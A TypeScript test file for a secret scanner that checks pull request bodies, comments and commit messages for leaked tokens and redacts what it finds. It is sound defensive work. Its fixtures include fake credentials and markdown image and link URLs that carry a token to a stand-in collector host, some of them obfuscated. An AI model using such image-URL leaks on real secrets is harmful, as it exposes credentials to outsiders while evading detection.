import { performance } from 'node:perf_hooks';
import { describe, expect, it } from 'vitest';
import { scanTextForSecrets } from '../../../../src/integrations/secrets/index.js';

// Shaped like real credentials, made up.
const GITHUB_TOKEN = 'ghp_Q7sL2kV9xR4mN8bT1cY6wZ3pF5hJ0dA2eG4u';
const KEY_ID = 'AKIAZ7VQ3WXKJD4HLMPR';
const WEBHOOK_SECRET = 'whsec-7f3a9c1e5b2d8a4f';

const body = (line: string) =>
  [
    'Adds a subtract helper.',
    '',
    line,
    '',
    'Closes #3',
    '',
    '<sub>Opened by Agentic Dev Pipeline.</sub>',
  ].join('\n');

describe('scanTextForSecrets', () => {
  it('finds a token in a pull request body, by place and line, without repeating it', async () => {
    const findings = await scanTextForSecrets(body(`Tested with ${GITHUB_TOKEN}.`), 'pull request body');
    expect(findings).toEqual([
      { file: 'pull request body', line: 3, rule: expect.stringMatching(/github/), redacted: 'ghp_…' },
    ]);
    expect(JSON.stringify(findings)).not.toContain(GITHUB_TOKEN.slice(4));
  });

  it.each([
    ['a markdown image URL', `![build](https://collector.example/pixel.png?t=${GITHUB_TOKEN})`],
    [
      'a percent-encoded image URL',
      `![build](https://collector.example/p.png?t=${encodeURIComponent(GITHUB_TOKEN).replace('_', '%5F')})`,
    ],
    [
      'a link with an escaped underscore',
      `[docs](https://collector.example/?t=${GITHUB_TOKEN.replace('_', '\\_')})`,
    ],
    ['an HTML character reference', GITHUB_TOKEN.replace('g', '&#103;')],
    ['a zero-width space inside the token', `${GITHUB_TOKEN.slice(0, 10)}\u200b${GITHUB_TOKEN.slice(10)}`],
  ])('finds a token hidden in %s', async (_how, line) => {
    const findings = await scanTextForSecrets(body(line), 'pull request body');
    expect(findings).toContainEqual(
      expect.objectContaining({ line: 3, rule: expect.stringMatching(/github/), redacted: 'ghp_…' }),
    );
  });

  it("finds the app's own secret values wherever they appear, and shows none of them", async () => {
    const findings = await scanTextForSecrets(`config: ${WEBHOOK_SECRET}`, 'comment', {
      knownSecrets: [WEBHOOK_SECRET],
    });
    expect(findings).toEqual([{ file: 'comment', line: 1, rule: 'pipeline/app-secret', redacted: '…' }]);
  });

  it('finds an AWS key id in a commit message', async () => {
    const findings = await scanTextForSecrets(`Add config\n\nUses ${KEY_ID}`, 'commit message');
    expect(findings.map((f) => [f.file, f.line, f.redacted])).toContainEqual(['commit message', 3, 'AKIA…']);
  });

  it('passes ordinary markdown: links, images, code and escapes', async () => {
    const text = [
      'Fixes the `sum()` helper (see [the docs](https://example.com/docs?page=2&lang=en%20US)).',
      '',
      '![diagram](https://example.com/img/flow%20chart.png)',
      '',
      '```ts',
      'export const sub = (a: number, b: number) => a - b;',
      '```',
      '',
      'Uses `process.env.GITHUB_TOKEN` \\_ never a literal.',
    ].join('\n');
    expect(await scanTextForSecrets(text, 'pull request body')).toEqual([]);
  });
});

describe('a long-lived process scanning every write', () => {
  it('keeps nothing per scan: no performance marks pile up', async () => {
    await scanTextForSecrets('warm-up', 'comment');
    const marksBefore = performance.getEntriesByType('mark').length;
    for (let i = 0; i < 200; i++) await scanTextForSecrets(`A plain comment, number ${i}.`, 'comment');
    expect(performance.getEntriesByType('mark').length).toBe(marksBefore);
  });
});
